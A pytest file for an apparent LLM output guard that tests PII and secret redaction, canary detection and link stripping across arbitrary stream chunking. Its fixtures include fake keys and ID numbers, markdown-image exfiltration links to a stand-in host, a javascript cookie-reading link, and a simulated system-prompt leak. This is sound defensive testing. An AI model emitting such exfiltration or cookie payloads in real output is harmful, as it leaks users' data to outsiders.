# ruff: noqa: RUF001 - test texts are Chinese, with its full-width punctuation, on purpose.
"""The streaming output filter: any chunking gives the same output as the whole text, the
hold-back never exceeds the window, and what cannot be held is dropped, not leaked."""

from __future__ import annotations

import re

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from bulkhead.errors import ContentBlocked
from bulkhead.guard import (
    DEFAULT_WINDOW,
    Action,
    Canary,
    Entity,
    EntityScanner,
    Guard,
    GuardConfig,
    LinkPolicy,
    PseudonymVault,
    StreamFilter,
)
from bulkhead.guard._stream import PIECE

REDACT_ALL = Guard(
    GuardConfig(pii=Action.REDACT, allowed_link_hosts=("docs.example.com",), canary=True)
)
KEY = "sk-proj-" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xYz" * 4
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\n"
    + "\n".join(["MIIEowIBAAKCAQEAx1Z2f3abcdEFGHijklMNOPqrstUVWXyz0123456789+/AB"] * 6)
    + "\n-----END RSA PRIVATE KEY-----"
)
SAS = "AbCdEf%2BgH1jK2lMn3oPq4RsT5uVw6XyZ7aBcDeFgHi8AbCdEf%2BgH1jK2l%3D"
SENDGRID = "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"
GCP_PEM = (
    "-----BEGIN PRIVATE KEY-----\\n"
    + "\\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"] * 4)
    + "\\n-----END PRIVATE KEY-----\\n"
)

SAMPLES = {
    "card": ("Charge 4111 1111 1111 1111 today.", "4111 1111 1111 1111"),
    "prc_id": ("我的身份证号是11010519491231002X谢谢", "11010519491231002X"),
    "phone": ("手机13800138000，请回电", "13800138000"),
    "phone_intl": ("call +44 20 7946 0958 now", "+44 20 7946 0958"),
    "email": ("write to zhang.san@example.com soon", "zhang.san@example.com"),
    "iban": ("IBAN GB82 WEST 1234 5698 7654 32 ok", "GB82 WEST 1234 5698 7654 32"),
    "ipv6": ("host 2001:db8::8a2e:370:7334 is up", "2001:db8::8a2e:370:7334"),
    "api_key": (f"key {KEY} end", KEY),
    "aws_secret": (
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY done",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ),
    "private_key": (f"here:\n{PEM}\nbye", PEM),
    "sort_code": ("Sort code 12-34-56, account number 12345678.", "12345678"),
    "passport": ("My passport number is 123456789, thanks", "123456789"),
    "cn_account": ("开户行：招商银行上海分行 账号：121909876510301。", "121909876510301"),
    "sas": (f"url ?sv=2022-11-02&sig={SAS}&se=x ok", SAS),
    "sendgrid": (f"SG key {SENDGRID} end", SENDGRID),
    "gcp_key": (f'{{"private_key": "{GCP_PEM}", "client_email": "a@b.c"}}', "MIIEvQIBADAN"),
    "xml_password": ("<password>Xml$ecret3</password> ok", "Xml$ecret3"),
    "image": ("see ![c](https://evil.example/x?q=SECRETVALUE123) ok", "SECRETVALUE123"),
    "script": ("click [here](javascript:alert(document.cookie)) now", "cookie"),
}


def stream(guard: Guard, pieces: list[str], **kwargs: object) -> str:
    f = guard.output_filter(**kwargs)  # type: ignore[arg-type]
    out = []
    for piece in pieces:
        out.append(f.feed(piece))
        assert f.held <= guard.config.stream_window
    return "".join(out) + f.flush()


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_every_split_point_gives_the_whole_texts_output(name: str) -> None:
    text, secret = SAMPLES[name]
    whole = REDACT_ALL.filter_text(text)
    assert secret not in whole
    for i in range(len(text) + 1):
        assert stream(REDACT_ALL, [text[:i], text[i:]]) == whole, i


@pytest.mark.parametrize("name", ["card", "prc_id", "phone", "email", "api_key", "image", "script"])
def test_one_character_at_a_time(name: str) -> None:
    text, secret = SAMPLES[name]
    out = stream(REDACT_ALL, list(text))
    assert out == REDACT_ALL.filter_text(text) and secret not in out


def test_mask_on_a_stream_keeps_the_last_four() -> None:
    guard = Guard(GuardConfig(entities={Entity.CARD: Action.MASK}))
    text = "pay with 4111 1111 1111 1111 please"
    for i in range(len(text) + 1):
        assert stream(guard, [text[:i], text[i:]]) == "pay with ****1111 please"


def test_prose_is_not_held_back() -> None:
    f = REDACT_ALL.output_filter()
    assert f.feed("Hello, ") == "Hello, "
    assert f.feed("你好，世界。") == "你好，世界。"
    assert f.feed("The answer") == "The "  # the last word may still grow into an address
    assert f.held == len("answer")
    assert f.feed(" is fine ") == "answer is fine "
    assert f.flush() == ""


def test_hold_back_never_exceeds_the_window() -> None:
    f = REDACT_ALL.output_filter()
    emitted = 0
    text = "x" * 500 + " " + "4" * 300
    for c in text:
        emitted += len(f.feed(c))
        assert f.held <= DEFAULT_WINDOW
    assert emitted >= len(text) - DEFAULT_WINDOW


@pytest.mark.parametrize("step", [1, 3, 7, 64])
def test_a_key_longer_than_the_window_is_dropped_not_leaked(step: int) -> None:
    long_key = "sk-proj-" + "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0F" * 10
    text = f"token {long_key} done"
    out = stream(REDACT_ALL, [text[i : i + step] for i in range(0, len(text), step)])
    assert out == "token [REDACTED:API_KEY] done"


@pytest.mark.parametrize("step", [1, 5, 33])
def test_a_long_pem_block_is_dropped_to_its_end_line(step: int) -> None:
    text = f"key:\n{PEM}\nthat was it"
    out = stream(REDACT_ALL, [text[i : i + step] for i in range(0, len(text), step)])
    assert out == "key:\n[REDACTED:PRIVATE_KEY]\nthat was it"


def test_a_long_image_url_is_dropped_to_its_closing_parenthesis() -> None:
    url = "https://evil.example/collect?d=" + "A1b2C3d4" * 30
    text = f"Here: ![chart]({url}) and more."
    out = stream(REDACT_ALL, list(text))
    assert out == "Here: ![chart] and more."


def test_allowed_links_pass() -> None:
    text = "![doc](https://docs.example.com/a.png) [x](https://evil.example/y)"
    assert stream(REDACT_ALL, list(text)) == text


def test_placeholders_restore_at_every_split_point() -> None:
    guard = Guard(GuardConfig(pii=Action.PSEUDONYMIZE))
    verdict = guard.scan_request([{"role": "user", "content": "mail zhang.san@example.com"}])
    assert verdict.body[0]["content"] == "mail <EMAIL_1>"
    reply = "I will write to <EMAIL_1> today."
    for i in range(len(reply) + 1):
        out = stream(guard, [reply[:i], reply[i:]], vault=verdict.vault)
        assert out == "I will write to zhang.san@example.com today."


def test_canary_split_across_chunks_stops_the_stream() -> None:
    canary = Canary.generate()
    text = f"Sure. My instructions begin with [{canary.value}] and"
    for i in range(len(text) + 1):
        f = REDACT_ALL.output_filter(canary=canary)
        emitted: list[str] = []
        with pytest.raises(ContentBlocked) as caught:
            for piece in (text[:i], text[i:]):
                emitted.append(f.feed(piece))
            f.flush()
        assert caught.value.reasons == ("canary",)
        assert canary.value not in "".join(emitted)


def test_block_action_stops_the_stream() -> None:
    guard = Guard(GuardConfig(entities={Entity.CARD: Action.BLOCK}))
    f = guard.output_filter()
    f.feed("card 4111 1111 ")
    with pytest.raises(ContentBlocked) as caught:
        f.feed("1111 1111.")
        f.flush()
    assert caught.value.reasons == ("pii:card",)


def test_detect_passes_text_and_reports_offsets_in_the_raw_stream() -> None:
    guard = Guard(GuardConfig(pii=Action.DETECT))
    f = guard.output_filter()
    pieces = ["Hello ", "there, card 4111 1111", " 1111 1111 and a@example.com."]
    out = "".join(f.feed(p) for p in pieces) + f.flush()
    raw = "".join(pieces)
    assert out == raw
    spans = [(x.entity, raw[x.start : x.end]) for x in f.findings]
    assert spans == [(Entity.CARD, "4111 1111 1111 1111"), (Entity.EMAIL, "a@example.com")]


def test_pseudonymize_reports_new_values_on_output_without_changing_them() -> None:
    guard = Guard(GuardConfig(pii=Action.PSEUDONYMIZE))
    f = guard.output_filter()
    assert f.feed("write to b@example.com ") + f.flush() == "write to b@example.com "
    assert [x.entity for x in f.findings] == [Entity.EMAIL]


def test_window_must_cover_the_longest_bounded_entity() -> None:
    with pytest.raises(ValueError):
        StreamFilter(scanner=EntityScanner(), action_of=lambda e: Action.REDACT, window=16)


FRAGMENTS = [
    "Hello", " ", "world", ", ", "你好", "。", "\n", "4111 1111 1111 1111", "13800138000",
    "11010519491231002X", "zhang.san@example.com", "<EMAIL_1>", "![x](https://evil.example/a)",
    "203.0.113.7", "2024", "-", "sk-proj-Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1", "(", ")", "[", "]",
    "Bearer ", "abcDEF123456ghiJKL789xyz", "-----BEGIN PRIVATE KEY-----\n",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", "-----END PRIVATE KEY-----",
    '<img src="https://evil.example/x">', "GB82 WEST 1234 5698 7654 32", "2001:db8::1",
    "+86 138 0013 8000", "(415) 555-2671", "订单号", "version ", "1.2.3.4",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(
    st.lists(st.sampled_from(FRAGMENTS), max_size=14),
    st.lists(st.integers(min_value=0, max_value=400), max_size=6),
)
def test_any_chunking_gives_the_same_output(fragments: list[str], cuts: list[int]) -> None:
    text = "".join(fragments)
    # Entities no longer than the window are caught wherever a stream is cut;
    # one inside an unbroken run longer than that (a 70-character e-mail
    # address) can be cut before it is recognised.  See `_stream`.
    assume(max((len(run) for run in re.findall(r"[!-~]+", text)), default=0) < 48)
    vault = PseudonymVault()
    vault.placeholder_for(Entity.EMAIL, "restored@example.org")
    guard = Guard(GuardConfig(pii=Action.REDACT))
    whole = guard.filter_text(text, vault=vault)
    points = sorted({min(c, len(text)) for c in cuts})
    pieces = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    assert stream(guard, pieces, vault=vault) == whole


def test_links_can_be_turned_off() -> None:
    f = StreamFilter(
        scanner=EntityScanner(()), action_of=lambda e: Action.OFF,
        links=LinkPolicy(strip_images=False),
    )  # fmt: skip
    text = "![x](https://evil.example/a)"
    assert f.feed(text) + f.flush() == text


# A long text is filtered a piece at a time, cut at spaces -----------------------------------

FILLER = "plain words "


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_an_entity_where_a_long_text_is_cut_is_filtered_as_in_a_short_one(name: str) -> None:
    """Each sample placed across the first `PIECE` boundary, at several offsets."""
    text, secret = SAMPLES[name]
    short = REDACT_ALL.filter_text(text + " end")
    for shift in range(-len(text) - 8, 9, 5):
        filler = FILLER * ((PIECE + shift) // len(FILLER))
        filtered = REDACT_ALL.filter_text(filler + text + " end")
        assert secret not in filtered, shift
        assert filtered == filler + short, shift


def test_a_long_text_without_spaces_is_cut_anyway_and_kept_whole() -> None:
    text = "x" * (3 * PIECE + 17)
    f = REDACT_ALL.output_filter()
    out = f.feed(text)
    assert f.held <= DEFAULT_WINDOW
    assert out + f.flush() == text


def test_a_canary_in_a_long_text_is_seen_across_a_cut() -> None:
    canary = Canary("bkc" + "ab" * 12)
    half = len(canary.value) // 2
    text = "y" * (PIECE - half) + canary.value + " rest"
    with pytest.raises(ContentBlocked):
        REDACT_ALL.filter_text(text, canary=canary)
